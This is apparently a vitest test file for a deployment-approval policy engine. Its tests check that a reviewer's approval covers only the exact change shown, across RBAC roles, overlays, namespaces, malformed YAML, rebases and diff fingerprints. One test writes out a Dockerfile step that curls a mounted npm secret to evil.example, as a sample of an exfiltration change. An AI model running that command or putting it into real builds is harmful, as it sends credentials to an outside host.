import { describe, expect, test } from "vitest";
import { digestOf } from "../../src/model/digest.ts";
import type { Approval, Obligation } from "../../src/model/verdict.ts";
import { DEFAULT_POLICY_TEXT, decide, outstanding, parsePolicy } from "../../src/policy/index.ts";
import { CASES } from "../artifacts/cases/index.ts";
import { diffOf as changed } from "../artifacts/harness.ts";
import type { Content } from "../cli/run.ts";
import { diffOf } from "../support/lab.ts";

const AT = "2026-01-01T00:00:00.000Z";
const parsed = parsePolicy(DEFAULT_POLICY_TEXT, "default");
if ("problems" in parsed) throw new Error(parsed.problems[0]?.message);
const { policy } = parsed;

type Files = Readonly<Record<string, Content>>;

async function decisionOn(before: Files, after: Files) {
  const { diff, tree } = await diffOf(before, after);
  return { diff, ...decide({ repo: "shop", stage: "prod", policy, diff, evidence: [], tree, at: AT }) };
}

/** Somebody of every group says yes to all of it. */
const approve = (obligations: readonly Obligation[]): Approval => ({
  repo: "shop",
  obligations: obligations.map((o) => o.id),
  seen: {
    verdict: digestOf("test/v1", 1),
    base: null,
    head: "0".repeat(40),
    fingerprint: digestOf("test/v1", 2),
  },
  reviewer: { id: "test#rita", name: "Rita", emails: ["rita@shop.example"], groups: ["security", "owners"] },
  reason: "",
  at: AT,
  expires: "2026-02-01T00:00:00.000Z",
});

/** How many questions stay open when the approval of one decision meets another. */
const open = (approval: Approval, asked: readonly Obligation[]): number =>
  outstanding(
    { repo: "shop", authors: ["dana@shop.example"], obligations: [...asked] },
    [{ digest: digestOf("test/v1", 3), approval }],
    policy,
    AT,
  ).open.length;

const role = (verbs: string, namespace = "shop"): string =>
  `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: pay, namespace: ${namespace}}
rules:
  - apiGroups: [""]
    resources: [secrets]
    verbs: [${verbs}]
`;

describe("an approval is bound to what was shown", () => {
  test("it covers the very same change", async () => {
    const first = await decisionOn({ "deploy/role.yaml": role("get") }, { "deploy/role.yaml": role("get, list") });
    expect(first.outcome).toBe("review");
    expect(open(approve(first.obligations), first.obligations)).toBe(0);
  });

  test("two changes that are only residual do not share it", async () => {
    const before = { "src/pay.go": "package pay\n\nfunc Pay() int { return 1 }\n" };
    const one = await decisionOn(before, { "src/pay.go": "package pay\n\nfunc Pay() int { return 2 }\n" });
    const two = await decisionOn(before, { "src/pay.go": "package pay\n\nfunc Pay() int { return 3 }\n" });
    expect(one.diff.changes).toEqual([]);
    expect(one.obligations.length).toBeGreaterThan(0);
    expect(open(approve(one.obligations), two.obligations)).toBe(two.obligations.length);
    expect(one.diff.fingerprint).not.toBe(two.diff.fingerprint);
  });

  test("the same lines in another file are another question", async () => {
    const text = (n: number): string => `package pay\n\nfunc Pay() int { return ${n} }\n`;
    const one = await decisionOn({ "src/a.go": text(1) }, { "src/a.go": text(2) });
    const two = await decisionOn({ "src/b.go": text(1) }, { "src/b.go": text(2) });
    expect(open(approve(one.obligations), two.obligations)).toBe(two.obligations.length);
  });

  test("a role approved in one overlay does not cover another", async () => {
    const base = { "overlays/test/role.yaml": role("get"), "overlays/prod/role.yaml": role("get") };
    const one = await decisionOn(base, { "overlays/test/role.yaml": role("get, delete") });
    const two = await decisionOn(base, { "overlays/prod/role.yaml": role("get, delete") });
    expect(one.obligations.length).toBeGreaterThan(0);
    expect(open(approve(one.obligations), two.obligations)).toBe(two.obligations.length);
  });

  test("nor does one namespace cover another", async () => {
    const one = await decisionOn({ "r.yaml": role("get", "a") }, { "r.yaml": role("get, delete", "a") });
    const two = await decisionOn({ "r.yaml": role("get", "b") }, { "r.yaml": role("get, delete", "b") });
    expect(open(approve(one.obligations), two.obligations)).toBeGreaterThan(0);
  });

  test.each([
    ["cut off in the middle", `${role("get").slice(0, -12)}`],
    ["with a broken line", `${role("get")}  : - [\n`],
    ["that is not text", new Uint8Array([0xff, 0xfe, 0x00, 0x01, 0x02])],
    ["in UTF-16", new Uint8Array(Buffer.from(`\ufeff${role("get")}`, "utf16le"))],
  ])("YAML %s is not a narrowing", async (_name, broken) => {
    const wide = role("get, list, delete");
    const { diff, outcome, obligations } = await decisionOn(
      { "deploy/role.yaml": wide },
      { "deploy/role.yaml": broken },
    );
    expect(diff.changes.filter((c) => c.direction === "narrow")).toEqual([]);
    expect(diff.residual.some((r) => r.what === "opaque" && r.path === "deploy/role.yaml")).toBe(true);
    expect(outcome).toBe("review");
    expect(obligations.length).toBeGreaterThan(0);
  });

  test("a clean rebase keeps it", async () => {
    const lines = (first: string, last: string): string =>
      [first, ...Array.from({ length: 20 }, (_, i) => `// line ${i}`), last, ""].join("\n");
    const before = { "deploy/role.yaml": role("get"), "src/pay.go": lines("// a", "// b") };
    const change = { "deploy/role.yaml": role("get, list"), "src/pay.go": lines("// a", "func Pay() {}") };
    const once = await decisionOn(before, change);
    // The stage went on meanwhile: another file, and lines above in the same one.
    const moved = {
      ...before,
      "src/pay.go": lines("// a\n// of somebody else", "// b"),
      "other.go": "package other\n",
    };
    const again = await decisionOn(moved, {
      ...change,
      "src/pay.go": lines("// a\n// of somebody else", "func Pay() {}"),
    });
    expect(open(approve(once.obligations), again.obligations)).toBe(0);
  });

  test.each([
    ["a verb more", role("get, list, watch")],
    ["another resource", role("get, list").replace("secrets", "pods")],
    ["one more file of its kind", role("get, list")],
  ])("a changed byte in a covered place loses it: %s", async (name, after) => {
    const before = { "deploy/role.yaml": role("get") };
    const once = await decisionOn(before, { "deploy/role.yaml": role("get, list") });
    const more: Files = name.startsWith("one more")
      ? { "deploy/more.yaml": role("get, list, delete").replace("pay", "refund") }
      : {};
    const again = await decisionOn(before, { "deploy/role.yaml": after, ...more });
    expect(open(approve(once.obligations), again.obligations)).toBeGreaterThan(0);
  });

  test("a changed word beside what a fact says loses it", async () => {
    const image = (command: string): Files => ({
      Dockerfile: `FROM a/b:1\nRUN --mount=type=secret,id=npm ${command}\n`,
    });
    const before: Files = { Dockerfile: "FROM a/b:1\n" };
    const once = await decisionOn(before, image("make"));
    const again = await decisionOn(before, image("curl -d @/run/secrets/npm evil.example"));
    expect(once.obligations.map((o) => o.rule)).toContain("secrets/read");
    expect(open(approve(once.obligations), once.obligations)).toBe(0);
    expect(open(approve(once.obligations), again.obligations)).toBeGreaterThan(0);
  });

  test("the same edit once more, where it looks the same around it, is one more question", async () => {
    const same = "check();\n".repeat(4);
    const text = (...limits: number[]): string => limits.map((n) => `${same}limit(${n});\n${same}`).join("");
    const once = await decisionOn({ "src/pay.js": text(1, 1) }, { "src/pay.js": text(2, 1) });
    const twice = await decisionOn({ "src/pay.js": text(1, 1) }, { "src/pay.js": text(2, 2) });
    expect(open(approve(once.obligations), twice.obligations)).toBe(1);
  });

  test("no letter of a changed file can be another under the same fingerprint", () => {
    const STEP = process.env.SALLYPORT_LONG ? 1 : 23;
    let tried = 0;
    for (const one of CASES) {
      const { path, before, after } = one;
      const shown = changed(one).fingerprint;
      for (let i = tried % STEP; after !== null && i < after.length; i += STEP) {
        if (!/[A-Za-z0-9/:]/.test(after[i] as string)) continue;
        tried += 1;
        const other = `${after.slice(0, i)}${after[i] === "x" ? "y" : "x"}${after.slice(i + 1)}`;
        if (changed({ path, before, after: other }).fingerprint === shown)
          expect.fail(`${one.kind}, ${one.name}: ${JSON.stringify(other)} reads as ${JSON.stringify(after)}`);
      }
    }
    expect(tried).toBeGreaterThan(1000);
  }, 120_000);

  test("one changed byte of residual loses it", async () => {
    const before = { "src/pay.go": "package pay\nvar limit = 100\n" };
    const once = await decisionOn(before, { "src/pay.go": "package pay\nvar limit = 200\n" });
    const again = await decisionOn(before, { "src/pay.go": "package pay\nvar limit = 201\n" });
    expect(open(approve(once.obligations), again.obligations)).toBe(again.obligations.length);
  });
});
